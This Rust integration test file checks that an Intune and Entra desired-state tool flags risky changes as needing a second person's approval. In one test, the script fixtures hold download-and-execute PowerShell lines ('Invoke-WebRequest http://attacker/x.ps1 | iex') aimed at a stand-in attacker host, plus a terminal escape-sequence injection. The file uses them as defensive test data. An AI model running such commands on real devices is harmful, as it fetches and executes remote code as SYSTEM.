//! Findings of the fifth hostile run against issue 12 (h14) on what needs
//! a second person's approval, each through the binary: access that Intune
//! role assignments, PIM approvers, custom role definitions,
//! administrative units and scope tags grant; scripts and installs that
//! run as SYSTEM or reach everyone; an app swapped under its name; the
//! default enrollment configurations; Intune roles named like read-only
//! roles; narrowing Intune admin access.

mod common;

use common::*;

fn d(dir: &std::path::Path) -> &str {
    dir.to_str().expect("a UTF-8 path")
}

/// The plan's output of `work` against `dir`; the test fails unless the
/// plan runs.
fn plan_text(sb: &sandbox::SandboxHandle, work: &std::path::Path, dir: &std::path::Path) -> String {
    let (code, out) = run(sb, work, &["plan", d(dir)]);
    assert!(matches!(code, Some(0) | Some(2)), "plan failed: {out}");
    out
}

/// The plan's output lines about `address` (the change line and what
/// follows it up to the next change).
fn change_block(out: &str, address: &str) -> String {
    let mut block = String::new();
    let mut inside = false;
    for l in out.lines() {
        let t = l.trim_start();
        if t.starts_with(['+', '~', '-']) && (t.contains(" app_assignment.") || t.contains(" group.") || t.contains('.')) && !l.starts_with("        ") {
            inside = t.contains(address);
        }
        if inside {
            block.push_str(l);
            block.push('\n');
        }
    }
    block
}

const INTUNE_OPS: &str = include_str!("fixtures/intune-ops-group.toml");

const FULL_INTUNE: &str = include_str!("fixtures/full-intune-role.toml");

/// Finding 1: a person added to the member group of an Intune role
/// assignment holds that Intune role: the change needs approval and says
/// which role it grants.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn intune_role_member_group_grants_the_role() {
    let sb = sandbox().await;
    let (work, dir) = converged(&sb, |d| common::gov7b::intune_ops(d, INTUNE_OPS))
    .await;
    edit_file(&dir, "groups.toml", |t| t.replace("members = [\"megan\"]", "members = [\"megan\", \"adele\"]"));
    let out = plan_text(&sb, work.path(), &dir);
    assert!(out.contains("sensitive: adds user.adele to group.intune-ops, which holds Intune role Full Intune operator over all devices"), "{out}");
    let (code, out) = run(&sb, work.path(), &["apply", d(&dir), "--auto-approve"]);
    assert_eq!(code, Some(1), "refused without approvals: {out}");

    // Taking adele out again (and megan) only removes access: not held.
    edit_file(&dir, "groups.toml", |t| t.replace("members = [\"megan\", \"adele\"]", "members = []"));
    let out = plan_text(&sb, work.path(), &dir);
    assert!(!change_block(&out, "group.intune-ops").contains("sensitive:"), "{out}");
    sb.shutdown().await.expect("the sandbox stops");
}

/// Finding 2: any change of a custom directory role definition is
/// sensitive and says who holds the role.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn custom_role_definition_changes_need_approval() {
    let sb = sandbox().await;
    let roles = r#"
[role_definition.helpdesk-passwords]
display_name = "Helpdesk password reset"
description = "Resets passwords of people who are not admins"
allowed_resource_actions = ["microsoft.directory/users/basic/update"]

[role_assignment.megan-helpdesk]
principal = "megan"
role = "helpdesk-passwords"
assignment = "eligible"
expires = 2027-03-31T00:00:00Z
justification = "helpdesk"
"#;
    let (work, dir) = converged(&sb, |d| {
        std::fs::write(d.join("custom-roles.toml"), roles).expect("written");
        common::gov9::except_pim_approval(d, &["role_assignment.megan-helpdesk"]);
    })
    .await;
    edit_file(&dir, "custom-roles.toml", |t| {
        t.replace("[\"microsoft.directory/users/basic/update\"]", "[\"microsoft.directory/users/basic/update\", \"microsoft.directory/roleAssignments/allProperties/allTasks\"]")
    });
    let out = plan_text(&sb, work.path(), &dir);
    assert!(out.contains("sensitive: custom directory role role_definition.helpdesk-passwords: changes what its holders may do (held by user.megan (eligible)"), "{out}");
    let (code, out) = run(&sb, work.path(), &["apply", d(&dir), "--auto-approve"]);
    assert_eq!(code, Some(1), "refused without approvals: {out}");

    // A new custom role is sensitive from its create.
    append(&dir, "custom-roles.toml", "[role_definition.other]\ndisplay_name = \"Other custom role\"\nallowed_resource_actions = [\"microsoft.directory/users/basic/update\"]\n");
    let out = plan_text(&sb, work.path(), &dir);
    assert!(out.contains("sensitive: custom directory role role_definition.other: changes what its holders may do (held by no one yet)"), "{out}");
    sb.shutdown().await.expect("the sandbox stops");
}

/// Finding 3: a group named as PIM activation approvers approves
/// activation of the role: adding a member needs approval.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pim_approver_group_membership_needs_approval() {
    let sb = sandbox().await;
    let (work, dir) = converged(&sb, |d| {
        append(d, "groups.toml", "[group.pim-approvers]\ndisplay_name = \"PIM approvers\"\nmail_nickname = \"pim-approvers\"\nmembers = [\"adele\"]\n");
        edit_file(d, "role-policies.toml", |t| t.replace("approvers = [\"adele\"]", "approvers = [\"pim-approvers\"]"));
    })
    .await;
    edit_file(&dir, "groups.toml", |t| t.replace("members = [\"adele\"]", "members = [\"adele\", \"megan\"]"));
    let out = plan_text(&sb, work.path(), &dir);
    assert!(out.contains("sensitive: adds user.megan to group.pim-approvers, which approves activation of"), "{out}");
    assert!(out.contains("(PIM approvers)"), "{out}");
    sb.shutdown().await.expect("the sandbox stops");
}

const SCRIPTS: &str = r#"
[platform_script.tz]
display_name = "Set time zone"
file = "scripts/tz.ps1"
run_as_account = "system"
enforce_signature_check = false
assignments = { include = ["licensed-users"] }

[platform_script.admins]
display_name = "Admin workstation hardening"
file = "scripts/admins.ps1"
run_as_account = "user"
enforce_signature_check = false
assignments = { include = ["intune-admins"] }

[remediation.stale-temp-wide]
display_name = "Clear stale temp files"
detection_file = "scripts/detect.ps1"
remediation_file = "scripts/fix.ps1"
run_as_account = "user"
schedule = { every = "daily", interval = 1, time = "09:30" }
assignments = { all_users = true, exclude = ["service-accounts"] }
"#;

/// Finding 4: scripts running as SYSTEM, on all users or on a protected
/// group are sensitive on create and on a content change, and the plans
/// show what runs (escaped).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn system_scripts_and_wide_scripts_need_approval_and_show_content() {
    let sb = sandbox().await;
    let write_scripts = |d: &std::path::Path| {
        std::fs::create_dir_all(d.join("scripts")).expect("scripts dir");
        std::fs::write(d.join("scripts/tz.ps1"), "Set-TimeZone -Id 'W. Europe Standard Time'\n").expect("written");
        std::fs::write(d.join("scripts/admins.ps1"), "Write-Output hardening\n").expect("written");
        std::fs::write(d.join("scripts/detect.ps1"), "exit 0\n").expect("written");
        std::fs::write(d.join("scripts/fix.ps1"), "Remove-Item $env:TEMP\\* -Recurse\n").expect("written");
    };
    // On create.
    let fresh = scratch_with(|t| t);
    let fd = fresh.path().join("desired-state");
    write_scripts(&fd);
    let nested = "[group.admins-parent]\ndisplay_name = \"Admins parent\"\nmail_nickname = \"admins-parent\"\nmembers = [\"intune-admins\"]\n\n[platform_script.nested]\ndisplay_name = \"Nested\"\nfile = \"scripts/admins.ps1\"\nrun_as_account = \"user\"\nassignments = { include = [\"admins-parent\"] }\n";
    std::fs::write(fd.join("scripts.toml"), format!("{SCRIPTS}\n{nested}")).expect("written");
    let out = plan_text(&sb, fresh.path(), &fd);
    assert!(out.contains("sensitive: script platform_script.nested runs on protected group.intune-admins (through group.admins-parent > group.intune-admins)"), "{out}");
    assert!(out.contains("sensitive: script platform_script.tz runs as SYSTEM"), "{out}");
    assert!(out.contains("sensitive: script platform_script.admins runs on protected group.intune-admins"), "{out}");
    assert!(out.contains("sensitive: remediation remediation.stale-temp-wide runs on all users"), "{out}");
    assert!(out.contains("note: scriptContent + Set-TimeZone -Id 'W. Europe Standard Time'"), "{out}");

    // On a content change: a line diff against the content the tenant holds.
    let (work, dir) = converged(&sb, |d| {
        write_scripts(d);
        std::fs::write(d.join("scripts.toml"), SCRIPTS).expect("written");
    })
    .await;
    std::fs::write(dir.join("scripts/tz.ps1"), "Invoke-WebRequest http://attacker/x.ps1 | iex\n\u{1b}[8m\n").expect("written");
    std::fs::write(dir.join("scripts/admins.ps1"), "Invoke-WebRequest http://attacker/x.ps1 | iex\n").expect("written");
    std::fs::write(dir.join("scripts/fix.ps1"), "Invoke-WebRequest http://attacker/y.ps1 | iex\n").expect("written");
    let out = plan_text(&sb, work.path(), &dir);
    assert!(out.contains("sensitive: script platform_script.tz runs as SYSTEM"), "{out}");
    assert!(out.contains("sensitive: script platform_script.admins runs on protected group.intune-admins"), "{out}");
    assert!(out.contains("sensitive: remediation remediation.stale-temp-wide runs on all users"), "{out}");
    assert!(out.contains("note: scriptContent - Set-TimeZone -Id 'W. Europe Standard Time'"), "{out}");
    assert!(out.contains("note: scriptContent + Invoke-WebRequest http://attacker/x.ps1 | iex"), "{out}");
    assert!(out.contains("note: remediationScriptContent + Invoke-WebRequest http://attacker/y.ps1 | iex"), "{out}");
    assert!(!out.contains('\u{1b}'), "a control character reached the text plan: {out}");
    let (code, md) = run(&sb, work.path(), &["plan", d(&dir), "--format", "markdown"]);
    assert!(matches!(code, Some(0) | Some(2)), "{md}");
    assert!(md.contains("scriptContent + Invoke-WebRequest http://attacker/x.ps1"), "{md}");
    assert!(!md.contains('\u{1b}'), "a control character reached the Markdown plan: {md}");
    let (code, out) = run(&sb, work.path(), &["apply", d(&dir), "--auto-approve"]);
    assert_eq!(code, Some(1), "refused without approvals: {out}");
    sb.shutdown().await.expect("the sandbox stops");
}

/// Findings 5 and 14: an app assignment whose app was swapped out of band
/// for another of the same name is sensitive and says so (and reconcile
/// does not heal it); a required install on a protected group, and a
/// Store app installed as SYSTEM, are sensitive.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn app_assignment_of_a_swapped_app_is_sensitive() {
    let sb = sandbox().await;
    let app = |publisher: &str, file: &str| serde_json::json!({"@odata.type": "#microsoft.graph.win32LobApp", "displayName": "Contoso VPN", "publisher": publisher, "fileName": file});
    let created = reqwest::Client::new().post(format!("{}/_sandbox/objects/mobileApps", sb.base_url())).json(&app("Contoso", "vpn.intunewin")).send().await.expect("the sandbox answers");
    let good: serde_json::Value = created.json().await.expect("a body");
    let good = good["id"].as_str().expect("an id").to_string();
    let (work, dir) = converged(&sb, |d| std::fs::write(d.join("apps.toml"), "[app_assignment.vpn]\napp = \"Contoso VPN\"\nassignments = { required = { include = [\"intune-admins\"] } }\n").expect("written")).await;
    assert_eq!(ledger_id(work.path(), "app_assignment.vpn"), good);

    let r = reqwest::Client::new().delete(format!("{}/_sandbox/objects/mobileApps/{good}", sb.base_url())).send().await.expect("the sandbox answers");
    assert!(r.status().is_success(), "{}", r.status());
    let created = reqwest::Client::new().post(format!("{}/_sandbox/objects/mobileApps", sb.base_url())).json(&app("Evil", "evil.intunewin")).send().await.expect("the sandbox answers");
    let evil: serde_json::Value = created.json().await.expect("a body");
    let evil = evil["id"].as_str().expect("an id").to_string();

    let out = plan_text(&sb, work.path(), &dir);
    assert!(out.contains(&format!("the app changed: the ledger recorded app id {good}, the tenant now has app id {evil} under that name, publisher Evil")), "{out}");
    assert!(out.contains("sensitive: app_assignment.vpn: the app changed"), "{out}");
    let (code, out) = run(&sb, work.path(), &["reconcile", d(&dir), "--once", "--self-heal"]);
    assert!(!out.contains("applied: assign app_assignment.vpn") && !out.contains("applied: update app_assignment.vpn"), "{code:?} {out}");
    let live = graph(&sb, reqwest::Method::GET, &format!("/beta/deviceAppManagement/mobileApps/{evil}/assignments"), None).await;
    assert_eq!(live["value"].as_array().map(Vec::len), Some(0), "the swapped app was assigned: {live}");

    // A Store app as SYSTEM, required on all users: sensitive on create.
    append(&dir, "apps.toml", "[winget_app.tool]\ndisplay_name = \"Tool\"\npublisher = \"Tool Inc\"\npackage_identifier = \"9NBLGGH4NNS1\"\ninstall_experience = { run_as_account = \"system\" }\nassignments = { available = { include = [\"licensed-users\"] } }\n");
    let out = plan_text(&sb, work.path(), &dir);
    assert!(out.contains("sensitive: winget_app.tool installs as SYSTEM"), "{out}");
    sb.shutdown().await.expect("the sandbox stops");
}

/// Finding 6: an Intune role may not take a directory role's name, and a
/// read-only account may hold only Intune roles that only read, whatever
/// their name.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn intune_roles_are_read_only_by_their_actions() {
    let sb = sandbox().await;
    let rbac = |name: &str| {
        format!(
            "[group.soc]\ndisplay_name = \"SOC\"\nmail_nickname = \"soc\"\nmembers = [\"mwaas-soc-ro\"]\n\n[intune_role_definition.gr]\ndisplay_name = \"{name}\"\nallowed_actions = [\"Microsoft.Intune_DeviceConfigurations_Read\", \"Microsoft.Intune_ManagedDevices_Wipe\"]\n\n[intune_role_assignment.soc]\ndisplay_name = \"SOC\"\nrole = \"gr\"\nmembers = [\"soc\"]\nall_devices = true\n"
        )
    };
    let named = scratch_with(|t| t);
    let nd = named.path().join("desired-state");
    std::fs::write(nd.join("rbac.toml"), rbac("Global Reader")).expect("written");
    let errors = load_errors(&nd);
    assert_error_at(&errors, "rbac.toml", "built-in-role-name", 7);

    // Named after what it reads, it still writes: refused for the
    // read-only account, by its operations.
    let honest = scratch_with(|t| t);
    let hd = honest.path().join("desired-state");
    std::fs::write(hd.join("rbac.toml"), rbac("SOC device reader")).expect("written");
    let (code, out) = validate(&sb, honest.path());
    assert_eq!(code, Some(1), "{out}");
    assert!(out.contains("user.mwaas-soc-ro is read-only and may hold only read-only roles; Intune role SOC device reader (intune_role_definition.gr)"), "{out}");
    assert!(out.contains("allows Microsoft.Intune_ManagedDevices_Wipe, which is not a Read operation"), "{out}");
    sb.shutdown().await.expect("the sandbox stops");
}

const UNIT: &str = r#"
[user.pierre]
user_principal_name = "pierre@contoso.onmicrosoft.com"
display_name = "Pierre"
mail_nickname = "pierre"

[user.paul]
user_principal_name = "paul@contoso.onmicrosoft.com"
display_name = "Paul"
mail_nickname = "paul"

[administrative_unit.paris]
display_name = "Paris office"
description = "People working from Paris"
members = ["pierre"]

[role_assignment.megan-paris-auth]
principal = "megan"
role = "Authentication Administrator"
scope = { administrative_unit = "paris" }
assignment = "active"
expires = 2027-01-31T00:00:00Z
justification = "Paris helpdesk"
"#;

/// Finding 9: widening an administrative unit that scopes a role
/// assignment is sensitive and names the role; one reaching a protected or
/// service account is an error.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn widening_a_unit_that_scopes_a_role_needs_approval() {
    let sb = sandbox().await;
    let (work, dir) = converged(&sb, |d| std::fs::write(d.join("units.toml"), UNIT).expect("written")).await;
    edit_file(&dir, "units.toml", |t| t.replace("members = [\"pierre\"]", "members = [\"pierre\", \"paul\"]"));
    let out = plan_text(&sb, work.path(), &dir);
    assert!(out.contains("sensitive: widens administrative unit administrative_unit.paris, which scopes Authentication Administrator (role_assignment.megan-paris-auth"), "{out}");
    let (code, out) = run(&sb, work.path(), &["apply", d(&dir), "--auto-approve"]);
    assert_eq!(code, Some(1), "refused without approvals: {out}");

    // A rule sweeping in everyone (service accounts and break-glass too).
    edit_file(&dir, "units.toml", |t| t.replace("members = [\"pierre\", \"paul\"]", "membership_rule = \"(user.accountEnabled -eq true)\""));
    let (code, out) = run(&sb, work.path(), &["plan", d(&dir)]);
    assert_eq!(code, Some(1), "{out}");
    assert!(out.contains("unit-reaches-protected-account") && out.contains("service account user.msadmin"), "{out}");
    sb.shutdown().await.expect("the sandbox stops");
}

const TAG: &str = r#"
[scope_tag.ams]
display_name = "Amsterdam"
assignments = { include = ["ams-devices"] }

[intune_role_assignment.helpdesk]
display_name = "Amsterdam helpdesk"
role = "Help Desk Operator"
members = ["helpdesk-ams"]
all_devices = true
scope_tags = ["ams"]
"#;

/// Finding 11: a scope tag an Intune role assignment is scoped by widens
/// that admin when its assignments grow or it is put on an object; on a
/// ring or the all-devices group it is a Managed Desktop object.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn scope_tags_of_intune_admins_are_sensitive() {
    let sb = sandbox().await;
    let groups = "[group.helpdesk-ams]\ndisplay_name = \"Helpdesk Amsterdam\"\nmail_nickname = \"helpdesk-ams\"\nmembers = [\"megan\"]\n\n[group.ams-devices]\ndisplay_name = \"Amsterdam devices\"\nmail_nickname = \"ams-devices\"\n\n[group.lon-devices]\ndisplay_name = \"London devices\"\nmail_nickname = \"lon-devices\"\n";
    let (work, dir) = converged(&sb, |d| {
        append(d, "groups.toml", groups);
        std::fs::write(d.join("rbac.toml"), TAG).expect("written");
        common::gov7b::except(d, "standing-privileged-access:intune_role_assignment.helpdesk", "test fixture: permanent on purpose");
    })
    .await;
    edit_file(&dir, "rbac.toml", |t| t.replace("include = [\"ams-devices\"]", "include = [\"ams-devices\", \"lon-devices\"]"));
    let out = plan_text(&sb, work.path(), &dir);
    assert!(out.contains("sensitive: scope tag scope_tag.ams scopes intune_role_assignment.helpdesk (Help Desk Operator)"), "{out}");

    edit_file(&dir, "rbac.toml", |t| t.replace("include = [\"ams-devices\", \"lon-devices\"]", "include = [\"ams-devices\", \"mwd-all\", \"mwd-test\"]"));
    let out = plan_text(&sb, work.path(), &dir);
    assert!(out.contains("sensitive: Managed Desktop: scope tag scope_tag.ams is assigned to group.mwd-"), "{out}");
    let (code, out) = run(&sb, work.path(), &["apply", d(&dir), "--auto-approve"]);
    assert_eq!(code, Some(1), "refused without approvals: {out}");

    // The tag put on a policy puts the policy in that admin's reach.
    append(&dir, "rbac.toml", "[device_configuration.ams-cfg]\nodata_type = \"windows10GeneralConfiguration\"\ndisplay_name = \"Amsterdam config\"\nscope_tags = [\"ams\"]\n\n[device_configuration.ams-cfg.settings]\ncameraBlocked = true\n");
    let out = plan_text(&sb, work.path(), &dir);
    assert!(out.contains("sensitive: adds scope tag scope_tag.ams to device_configuration.ams-cfg, which intune_role_assignment.helpdesk (Help Desk Operator) is scoped by"), "{out}");
    sb.shutdown().await.expect("the sandbox stops");
}

/// Finding 15: the default enrollment configurations apply to all users
/// and devices: any change is sensitive. (They are declared here on a
/// converged tenant rather than converged themselves: their non-GUID ids
/// are the ledger's finding 8, which the lead fixes.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn default_enrollment_configurations_are_sensitive() {
    let sb = sandbox().await;
    let (work, dir) = converged(&sb, |_| {}).await;
    let enrollment = "[enrollment_status_page.default]\ndisplay_name = \"All users and all devices\"\ndefault = true\nallow_device_use_on_install_failure = true\nblock_device_setup_retry_by_user = false\ninstall_progress_timeout_in_minutes = 5\n\n[enrollment_restriction.default-limit]\ndisplay_name = \"All users and all devices\"\nrestriction = \"limit\"\ndefault = true\nlimit = 15\n";
    std::fs::write(dir.join("enrollment.toml"), enrollment).expect("written");
    let out = plan_text(&sb, work.path(), &dir);
    assert!(out.contains("sensitive: enrollment_status_page.default is the tenant's default enrollment configuration: it applies to all users and all devices"), "{out}");
    assert!(out.contains("sensitive: enrollment_restriction.default-limit is the tenant's default enrollment configuration"), "{out}");
    let (code, out) = run(&sb, work.path(), &["reconcile", d(&dir), "--once", "--self-heal"]);
    assert!(!out.contains("applied: update enrollment_status_page.default"), "{code:?} {out}");
    sb.shutdown().await.expect("the sandbox stops");
}

/// Finding 16a: taking a member group out of an Intune role assignment
/// only removes access (not held); an out-of-band Intune role assignment
/// is reported.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn narrowing_an_intune_role_assignment_is_not_held() {
    let sb = sandbox().await;
    let (work, dir) = converged(&sb, |d| {
        append(d, "groups.toml", INTUNE_OPS);
        std::fs::write(d.join("rbac.toml"), FULL_INTUNE.replace("members = [\"intune-ops\"]", "members = [\"intune-ops\", \"intune-admins\"]")).expect("written");
        common::gov7b::except(d, "standing-privileged-access:intune_role_assignment.ops", "test fixture: permanent on purpose");
    })
    .await;
    edit_file(&dir, "rbac.toml", |t| t.replace("members = [\"intune-ops\", \"intune-admins\"]", "members = [\"intune-ops\"]"));
    let out = plan_text(&sb, work.path(), &dir);
    assert!(out.contains("intune_role_assignment.ops"), "{out}");
    assert!(!change_block(&out, "intune_role_assignment.ops").contains("sensitive:"), "{out}");
    let (code, out) = run(&sb, work.path(), &["apply", d(&dir), "--auto-approve"]);
    assert_eq!(code, Some(0), "applied without approvals: {out}");

    // Out of band: the same role to intune-admins over all devices.
    let role = ledger_id(work.path(), "intune_role_definition.full-intune");
    let admins = ledger_id(work.path(), "group.intune-admins");
    let body = serde_json::json!({"@odata.type": "#microsoft.graph.deviceAndAppManagementRoleAssignment", "displayName": "Shadow ops", "members": [admins], "scopeType": "allDevices", "resourceScopes": [], "roleDefinition@odata.bind": format!("{}/beta/deviceManagement/roleDefinitions('{role}')", sb.base_url())});
    graph(&sb, reqwest::Method::POST, "/beta/deviceManagement/roleAssignments", Some(body)).await;
    let out = plan_text(&sb, work.path(), &dir);
    assert!(out.contains("unmanaged-intune-admin") && out.contains("`Shadow ops` gives Full Intune operator over all devices to group.intune-admins outside desired state"), "{out}");
    sb.shutdown().await.expect("the sandbox stops");
}

/// Finding 28: a rollout's soak and ring order are recorded with the
/// governance in force (Graph keeps neither), so cutting the soak shows in
/// the plan as a governance change the approvers in force approve.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_changed_rollout_shows_and_needs_approval() {
    let sb = sandbox().await;
    let rollout = "[update_ring.quality]\ndisplay_name = \"Windows Quality\"\nquality_updates_deferral_period_in_days = 0\ndeadline_for_quality_updates_in_days = 2\nrollout = { rings = [\"mwd-test\", \"mwd-first\", \"mwd-fast\", \"mwd-broad\"], soak = \"48h\" }\n";
    let (work, dir) = converged(&sb, |d| std::fs::write(d.join("rollout.toml"), rollout).expect("written")).await;
    let out = plan_text(&sb, work.path(), &dir);
    assert!(!out.contains("governance: sensitive"), "{out}");
    edit_file(&dir, "rollout.toml", |t| t.replace("soak = \"48h\"", "soak = \"1m\""));
    let out = plan_text(&sb, work.path(), &dir);
    assert!(out.contains("sensitive: changes [governance] (declared.update_ring.quality"), "{out}");
    assert!(out.contains("mwd-test > mwd-first > mwd-fast > mwd-broad soak 48h") && out.contains("soak 1m"), "{out}");
    let (code, out) = run(&sb, work.path(), &["apply", d(&dir), "--auto-approve"]);
    assert_eq!(code, Some(1), "refused without approvals: {out}");
    sb.shutdown().await.expect("the sandbox stops");
}
